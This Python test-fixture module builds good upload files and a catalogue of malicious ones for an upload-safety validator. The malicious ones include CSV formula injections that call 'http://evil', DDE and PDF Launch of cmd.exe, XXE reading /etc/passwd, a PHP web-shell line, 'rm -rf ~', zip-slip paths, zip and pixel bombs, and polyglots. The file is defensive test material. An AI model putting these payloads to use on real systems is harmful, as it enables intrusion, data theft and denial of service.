"""Files for the door, built by code: good ones of each kind, and the corpus of bad ones by family."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from community.safety.uploads import Purpose
from tests.factories.videos import mp4, webm

IMAGE, DOCUMENT, NOTEBOOK = Purpose.IMAGE, Purpose.DOCUMENT, Purpose.NOTEBOOK
SCRIPT = b"<script>MARK()</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="MARK()"/>'
MARKER = b"5h0uld-n0t-survive"


def picture(kind="PNG", size=(40, 30), mode="RGB", **options) -> bytes:
    drawn = io.BytesIO()
    image = Image.new(mode, size, 120)
    image.putpixel((0, 0), 255 if len(image.getbands()) == 1 else (255,) * len(image.getbands()))
    image.save(drawn, kind, **options)
    return drawn.getvalue()


def moving(kind: str) -> bytes:
    drawn = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in (0, 120, 240)]
    frames[0].save(drawn, kind, save_all=True, append_images=frames[1:], duration=100)
    return drawn.getvalue()


def exif() -> bytes:
    tags = Image.Exif()
    tags[0x0112] = 6  # turned by 90 degrees
    tags[0x010E] = MARKER.decode()
    tags[0x8825] = {1: "N", 2: (38.0, 34.0, 36.0)}  # where the picture was taken
    return tags.tobytes()


def png_with_text() -> bytes:
    words = PngInfo()
    words.add_text("Comment", MARKER.decode() + SCRIPT.decode())
    words.add_itxt("XML:com.adobe.xmp", MARKER.decode())
    return picture(pnginfo=words)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def flat_png(width: int, height: int, *, rows: int | None = None) -> bytes:
    """A PNG of a few kilobytes that says it has `width` times `height` pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(height if rows is None else rows)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def archive(*members: tuple[str, bytes], method=zipfile.ZIP_DEFLATED, comment=b"") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as made:
        for name, data in members:
            made.writestr(zipfile.ZipInfo(name), data, method)
        made.comment = comment
    return packed.getvalue()


def encrypted(data: bytes) -> bytes:
    """The archive with the bit set that says its members need a password."""
    changed = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = changed.find(mark)
        changed[start + place] |= 1
    return bytes(changed)


def lying(data: bytes) -> bytes:
    """The archive, of one member, saying that it unpacks to ten bytes."""
    changed = bytearray(data)
    changed[22:26] = struct.pack("<L", 10)
    start = changed.find(b"PK\x01\x02")
    changed[start + 24 : start + 28] = struct.pack("<L", 10)
    return bytes(changed)


def overlapping(copies: int = 50) -> bytes:
    """One member, listed under many names (D. Fifield, A better zip bomb, 2019)."""
    data = archive(("a0000", b"0" * 1_000_000))
    start, end = data.find(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
    entry = data[start:end]
    entries = b"".join(entry.replace(b"a0000", f"a{number:04}".encode()) for number in range(copies))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), start, 0)
    return data[:start] + entries + tail


def symbolic_link() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return packed.getvalue()


def twice() -> bytes:
    packed = archive(("a.txt", b"1"), ("b.txt", b"2"))
    return packed.replace(b"b.txt", b"A.TXT")


_PARTS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}


def office(kind: str, *more: tuple[str, bytes], types: str = "", main: bytes = b"<?xml version='1.0'?><w/>") -> bytes:
    part, name = _PARTS[kind]
    override = (
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{name}.main+xml"/>'
    )
    content = f'<?xml version="1.0" encoding="UTF-8"?><Types>{override}{types}</Types>'.encode()
    return archive(("[Content_Types].xml", content), ("_rels/.rels", b"<Relationships/>"), (part, main), *more)


def relationship(kind: str, target: str) -> tuple[str, bytes]:
    address = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    row = f'<Relationship Id="r1" Type="{address}" Target="{target}" TargetMode="External"/>'
    return "word/_rels/settings.xml.rels", f"<Relationships>{row}</Relationships>".encode()


def pdf(more: bytes = b"", after: bytes = b"") -> bytes:
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R"
        + more
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    )
    table = len(body)
    end = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 3/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % table
    return body + end + after


def pdf_with_packed_script() -> bytes:
    packed = zlib.compress(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")
    return pdf().replace(
        b"xref\n0 1",
        b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\nxref\n0 1"
        % (len(packed), packed),
    )


def notebook() -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}).encode()


GOOD: dict[str, bytes] = {
    "a.png": picture(),
    "a.jpg": picture("JPEG"),
    "b.jpeg": picture("JPEG", mode="L"),
    "a.gif": picture("GIF", mode="P"),
    "a.webp": picture("WEBP"),
    "a.csv": "name,wells\nTule,12\n“Señora”,-3\n=1+2,+1 916 555 0100\n".encode(),
    "excel.csv": "\ufeffname;a <b> c;5 < 6\r\n".encode(),
    "a.txt": b"Read a < b and c > d. Use the <p> tag for a paragraph.\n",
    "a.md": b"# Checklist\n\n- [ ] The file opens, a < b.\n",
    "a.json": b'{"dataset": [{"title": "Wells", "description": "<p>Depth of <a href=\\"https://ca.gov\\">wells</a></p>"}]}',
    "a.ics": b"\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n",
    "a.vtt": b"WEBVTT\n\n00:00.000 --> 00:02.000\n<v Ana>Welcome.</v>\n",
    "a.pdf": pdf(),
    "a.docx": office("docx", relationship("hyperlink", "https://data.ca.gov")),
    "a.xlsx": office("xlsx"),
    "a.pptx": office("pptx"),
    "a.zip": archive(("data/", b""), ("data/wells.csv", b"a,b\n1,2\n"), ("data/report.docx", office("docx"))),
    "a.ipynb": notebook(),
    "a.mp4": mp4(),
    "a.webm": webm(),
}


def purpose_of(name: str) -> Purpose:
    ending = name.rpartition(".")[2]
    if ending in {"mp4", "webm"}:
        return Purpose.VIDEO
    if ending == "ics":
        return Purpose.CALENDAR
    if ending == "md":
        return Purpose.RESOURCE
    return NOTEBOOK if ending == "ipynb" else IMAGE if ending in {"png", "jpg", "jpeg", "gif", "webp"} else DOCUMENT


@dataclass(frozen=True)
class Bad:
    """One bad upload. `code` is the rule that must refuse it."""

    name: str
    make: Callable[[], bytes]
    code: str
    purpose: Purpose = DOCUMENT

    @property
    def data(self) -> bytes:
        return self.make()


def _bad(name: str, data: bytes | Callable[[], bytes], code: str, purpose: Purpose | None = None) -> Bad:
    return Bad(name, data if callable(data) else lambda: data, code, purpose or purpose_of(name))


BAD: dict[str, dict[str, Bad]] = {
    "endings": {
        "svg": _bad("a.svg", SVG, "extension", IMAGE),
        "html": _bad("a.html", SCRIPT, "extension"),
        "program": _bad("a.exe", b"MZ\x90\x00", "extension"),
        "two endings": _bad("report.pdf.exe", b"MZ\x90\x00", "extension"),
        "picture, then page": _bad("photo.png.html", SCRIPT, "extension", IMAGE),
        "dot at the end": _bad("page.html.", SCRIPT, "extension"),
        "space at the end": _bad("page.html ", SCRIPT, "extension"),
        "hidden file": _bad(".csv", b"a,b", "extension"),
        "no ending": _bad("csv", b"a,b", "extension"),
        "stream of Windows": _bad("a.csv::$DATA", b"a,b", "extension"),
        "macro workbook": _bad("a.xlsm", lambda: office("xlsx"), "extension"),
        "old Word": _bad("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "extension"),
        "document as picture": _bad("a.pdf", pdf, "extension", IMAGE),
        "picture as notebook": _bad("a.png", picture, "extension", NOTEBOOK),
        "TIFF": _bad("a.tiff", lambda: picture("TIFF"), "extension", IMAGE),
        "style sheet": _bad("a.css", b"body{}", "extension"),
    },
    "names": {
        "null": _bad("a.html\x00.csv", b"a,b", "name"),
        "line break": _bad("a\r\nX-Evil: 1.csv", b"a,b", "name"),
        "turned direction": _bad("a\u202evsc.exe.csv", b"a,b", "name"),
        "zero width": _bad("a\u200b.csv", b"a,b", "name"),
    },
    "other kind inside": {
        "HTML as csv": _bad("a.csv", b"<html><body>" + SCRIPT, "content"),
        "SVG as txt": _bad("a.txt", SVG, "content"),
        "script in a csv cell": _bad("a.csv", b"name,words\nWells," + SCRIPT + b"\n", "markup"),
        "script in Markdown": _bad("a.md", b"# Checklist\n" + SCRIPT, "markup"),
        "event attribute in a csv cell": _bad("a.csv", b"name\n<b title=x onclick=MARK()>Wells</b>\n", "markup"),
        "script address in a txt": _bad("a.txt", b"See <a href='javascript:MARK()'>this</a>", "markup"),
        "frame in a vtt": _bad("a.vtt", b"WEBVTT\n\n00:00.000 --> 00:02.000\n<iframe src=//evil>", "markup"),
        "script in JSON": _bad("a.json", b'{"a": "' + SCRIPT + b'"}', "markup"),
        "XML entities as txt": _bad("a.txt", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>', "content"),
        "PHP as txt": _bad("a.txt", b"<?php system($_GET[0]);", "content"),
        "shell script as csv": _bad("a.csv", b"#!/bin/sh\nrm -rf ~\n", "content"),
        "GIF and script in one": _bad("a.csv", b"GIF89a/*,a*/=1;MARK();", "content"),
        "RTF as txt": _bad("a.txt", b"{\\rtf1 x}", "content"),
        "mail page as txt": _bad("a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT, "content"),
        "program as txt": _bad("a.txt", b"MZ\x90\x00\x03", "encoding"),
        "PNG as jpg": _bad("a.jpg", picture, "content"),
        "SVG as png": _bad("a.png", SVG, "content"),
        "HTML as png": _bad("a.png", SCRIPT, "content"),
        "BMP as png": _bad("a.png", lambda: picture("BMP"), "content"),
        "TIFF as gif": _bad("a.gif", lambda: picture("TIFF"), "content"),
        "ICO as png": _bad("a.png", lambda: picture("ICO"), "content"),
        "HTML as pdf": _bad("a.pdf", SCRIPT, "content"),
        "PDF after HTML": _bad("a.pdf", lambda: SCRIPT + pdf(), "content"),
        "HTML after PDF": _bad("a.pdf", lambda: pdf(after=SCRIPT), "content"),
        "zip after PDF": _bad("a.pdf", lambda: pdf(after=archive(("a.html", SCRIPT))), "content"),
        "PDF around a zip": _bad(
            "a.pdf", lambda: b"%PDF-1.4\n" + archive(("a.html", SCRIPT), comment=b"\n%%EOF\n"), "polyglot"
        ),
        "zip as docx": _bad("a.docx", lambda: archive(("a.txt", b"a")), "content"),
        "docx as xlsx": _bad("a.xlsx", lambda: office("docx"), "content"),
        "text as docx": _bad("a.docx", b"Dear colleagues", "content"),
        "picture before zip": _bad("a.zip", lambda: picture("GIF", mode="P") + archive(("a.txt", b"a")), "content"),
        "program before zip": _bad("a.zip", lambda: b"MZ" + archive(("a.txt", b"a")), "content"),
        "page behind zip": _bad("a.zip", lambda: archive(("a.txt", b"a")) + SCRIPT, "polyglot"),
        "page in the zip's comment": _bad("a.zip", lambda: archive(("a.txt", b"a"), comment=SCRIPT), "polyglot"),
        "picture as a calendar": _bad("a.ics", picture(), "content", Purpose.CALENDAR),
        "caption file without its first line": _bad("a.vtt", b"00:00.000 --> 00:02.000\nHello", "content"),
        "CSV as JSON": _bad("a.json", b"a,b\n1,2\n", "content"),
        "JSON with NaN": _bad("a.json", b"[NaN]", "content"),
        "list as notebook": _bad("a.ipynb", b"[1, 2]", "content"),
    },
    "encodings": {
        "UTF-16": _bad("a.csv", "name,wells\n".encode("utf-16"), "encoding"),
        "Latin-1": _bad("a.txt", "Señora\n".encode("latin-1"), "encoding"),
        "UTF-7 with controls": _bad("a.txt", b"+ADw-script+AD4-\x1b[31m", "encoding"),
        "nulls": _bad("a.csv", b"a,b\n1\x00,2\n", "encoding"),
        "overlong": _bad("a.txt", b"\xc0\xbcscript>", "encoding"),
        "half a surrogate": _bad("a.txt", b"\xed\xa0\x80", "encoding"),
    },
    "size and depth": {
        "empty": _bad("a.csv", b"", "size"),
        "empty picture": _bad("a.png", b"", "size"),
        "picture over 10 MB": _bad("a.png", lambda: picture() + b"0" * 10_000_001, "size"),
        "notebook over 5 MB": _bad("a.ipynb", b" " * 5_000_001, "size"),
        "deep JSON": _bad("a.json", b"[" * 100_000 + b"]" * 100_000, "depth"),
        "deep objects": _bad("a.json", b'{"a":' * 101 + b"1" + b"}" * 101, "depth"),
        "a million lists": _bad("a.json", b"[" + b"[]," * 600_000 + b"[]]", "depth"),
        "a number without end": _bad("a.json", b"1" * 5_000, "content"),
    },
    "formulas": {
        "DDE": _bad("a.csv", b"name\n=cmd|' /C calc'!A0\n", "formula"),
        "DDE behind a sum": _bad("a.csv", b"name\n@SUM(1+1)*cmd|' /C calc'!A0\n", "formula"),
        "web service": _bad("a.csv", b'name\n"=WEBSERVICE(""http://evil/""&A1)"\n', "formula"),
        "link": _bad("a.csv", b'1,=HYPERLINK("http://evil?"&A1)\n', "formula"),
        "import": _bad("a.csv", b"1,+IMPORTXML(A1)\n", "formula"),
    },
    "archive bombs": {
        "ratio": _bad("a.zip", lambda: archive(("zeros", b"\0" * 20_000_000)), "bomb"),
        "ratio in a workbook": _bad("a.xlsx", lambda: office("xlsx", ("xl/a.xml", b" " * 20_000_000)), "bomb"),
        "many small zeros": _bad(
            "a.zip", lambda: archive(*[(f"{number}", b"\0" * 990_000) for number in range(110)]), "bomb"
        ),
        "too many members": _bad("a.zip", lambda: archive(*[(f"{number}", b"") for number in range(2_001)]), "bomb"),
        "overlapping members": _bad("a.zip", overlapping, "bomb"),
        "size that lies": _bad("a.zip", lambda: lying(archive(("a", b"\0" * 5_000_000))), "content"),
        "archive in an archive in an archive": _bad(
            "a.zip", lambda: archive(("a.zip", archive(("b.zip", archive(("c", b"c")))))), "depth"
        ),
        "bomb in an inner archive": _bad(
            "a.zip", lambda: archive(("a.zip", archive(("c", b"\0" * 20_000_000)))), "bomb"
        ),
        "gzip inside": _bad("a.zip", lambda: archive(("a.gz", b"\x1f\x8b\x08\x00")), "depth"),
        "LZMA": _bad("a.zip", lambda: archive(("a", b"0" * 100), method=zipfile.ZIP_LZMA), "content"),
    },
    "archive members": {
        "path that leads out": _bad("a.zip", lambda: archive(("../../etc/cron.d/a", b"a")), "names"),
        "path from the root": _bad("a.zip", lambda: archive(("/etc/passwd", b"a")), "names"),
        "drive of Windows": _bad("a.zip", lambda: archive(("C:/a.txt", b"a")), "names"),
        "strokes of Windows": _bad("a.zip", lambda: archive(("a\\..\\..\\b.txt", b"a")), "names"),
        "deep folders": _bad("a.zip", lambda: archive(("a/" * 40 + "b", b"a")), "names"),
        "link": _bad("a.zip", symbolic_link, "names"),
        "two of one name": _bad("a.zip", twice, "names"),
        "encrypted": _bad("a.zip", lambda: encrypted(archive(("a.txt", b"a"))), "encrypted"),
        "encrypted document": _bad("a.docx", lambda: encrypted(office("docx")), "encrypted"),
        "program": _bad("a.zip", lambda: archive(("setup.exe", b"a")), "active"),
        "program under another name": _bad("a.zip", lambda: archive(("data.csv", b"MZ\x90")), "active"),
        "macro document": _bad("a.zip", lambda: archive(("a.docm", office("docx"))), "active"),
        "cut": _bad("a.zip", lambda: archive(("a.txt", b"a" * 100))[:-30], "polyglot"),
        "empty archive": _bad("a.zip", archive, "content"),
        "wrong checksum": _bad(
            "a.zip",
            lambda: archive(("a", b"abcdef"), method=zipfile.ZIP_STORED).replace(b"abcdef", b"abcdeg"),
            "content",
        ),
    },
    "office": {
        "macros": _bad("a.docx", lambda: office("docx", ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "active"),
        "macros by type": _bad(
            "a.docx",
            lambda: office("docx", types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
            "active",
        ),
        "macro sheet": _bad("a.xlsx", lambda: office("xlsx", ("xl/macrosheets/sheet1.xml", b"<a/>")), "active"),
        "ActiveX": _bad("a.pptx", lambda: office("pptx", ("ppt/activeX/activeX1.xml", b"<a/>")), "active"),
        "embedded program": _bad("a.docx", lambda: office("docx", ("word/embeddings/oleObject1.bin", b"a")), "active"),
        "template from elsewhere": _bad(
            "a.docx", lambda: office("docx", relationship("attachedTemplate", "http://evil/a.dotm")), "active"
        ),
        "object from elsewhere": _bad(
            "a.docx", lambda: office("docx", relationship("oleObject", "http://evil/a.html!")), "active"
        ),
        "DDE link": _bad(
            "a.xlsx", lambda: office("xlsx", ("xl/externalLinks/1.xml", b'<ddeLink ddeService="cmd"/>')), "active"
        ),
        "DDE field": _bad("a.docx", lambda: office("docx", main=b'<w:instrText>DDEAUTO "c:\\\\cmd.exe"</w>'), "active"),
        "entities": _bad(
            "a.xlsx",
            lambda: office("xlsx", main=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'),
            "active",
        ),
        "entities far inside": _bad(
            "a.xlsx", lambda: office("xlsx", main=b" " * 65_533 + b"<!ENTITY b 'c'>"), "active"
        ),
        "parts in UTF-16": _bad("a.docx", lambda: office("docx", main="<!DOCTYPE a>".encode("utf-16")), "encoding"),
    },
    "PDF": {
        "script": _bad("a.pdf", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "active"),
        "script, name escaped": _bad("a.pdf", lambda: pdf(b"/OpenAction<</S/J#61vaScript/J#53(a)>>"), "active"),
        "script in packed objects": _bad("a.pdf", pdf_with_packed_script, "active"),
        "program start": _bad("a.pdf", lambda: pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "active"),
        "file inside": _bad("a.pdf", lambda: pdf(b"/AF[<</EF<</F 9 0 R>>/Type/EmbeddedFile>>]"), "active"),
        "cut": _bad("a.pdf", lambda: pdf()[:-20], "content"),
        "no version": _bad("a.pdf", lambda: pdf().replace(b"%PDF-1.4", b"%PDF-x.y"), "content"),
    },
    "pictures": {
        "pixel bomb": _bad("a.png", lambda: flat_png(10_000, 4_001), "pixels"),
        "gigantic header": _bad("a.png", lambda: flat_png(400_000, 2**31 - 1, rows=1), "pixels"),
        "very long": _bad("a.png", lambda: flat_png(1, 20_000), "pixels"),
        "moving GIF": _bad("a.gif", lambda: moving("GIF"), "animated"),
        "moving PNG": _bad("a.png", lambda: moving("PNG"), "animated"),
        "moving WebP": _bad("a.webp", lambda: moving("WEBP"), "animated"),
        "cut PNG": _bad("a.png", lambda: picture(size=(400, 400), mode="RGB")[:-60], "content"),
        "cut JPEG": _bad("a.jpg", lambda: picture("JPEG", size=(400, 400))[:-600], "content"),
        "cut GIF": _bad("a.gif", lambda: picture("GIF", mode="P")[:40], "content"),
        "cut WebP": _bad("a.webp", lambda: picture("WEBP")[:40], "content"),
        "wrong checksum": _bad("a.png", lambda: picture().replace(b"IHDR", b"IHDX"), "content"),
        "text that unpacks to much": _bad(
            "a.png",
            lambda: (
                picture()[:33]
                + _png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * 30_000_000, 9))
                + picture()[33:]
            ),
            "content",
        ),
        "signature alone": _bad("a.png", b"\x89PNG\r\n\x1a\n", "content"),
    },
}
ALL_BAD: dict[str, Bad] = {f"{family}: {name}": bad for family, cases in BAD.items() for name, bad in cases.items()}

# Good files that carry something with them: the picture stays, the rest goes.
LADEN: dict[str, tuple[str, Callable[[], bytes]]] = {
    "EXIF in JPEG": ("a.jpg", lambda: picture("JPEG", exif=exif())),
    "EXIF in PNG": ("a.png", lambda: picture("PNG", exif=exif())),
    "EXIF in WebP": ("a.webp", lambda: picture("WEBP", exif=exif())),
    "text in PNG": ("a.png", png_with_text),
    "comment in JPEG": ("a.jpg", lambda: picture("JPEG", comment=MARKER)),
    "comment in GIF": ("a.gif", lambda: picture("GIF", mode="P", comment=MARKER)),
    "profile in JPEG": ("a.jpg", lambda: picture("JPEG", icc_profile=MARKER * 20)),
    "page behind PNG": ("a.png", lambda: picture() + MARKER + SCRIPT),
    "page behind JPEG": ("a.jpg", lambda: picture("JPEG") + MARKER + SCRIPT),
    "archive behind GIF": (
        "a.gif",
        lambda: picture("GIF", mode="P") + archive(("a.html", MARKER + SCRIPT), method=zipfile.ZIP_STORED),
    ),
    "page behind WebP": ("a.webp", lambda: picture("WEBP") + MARKER + SCRIPT),
}
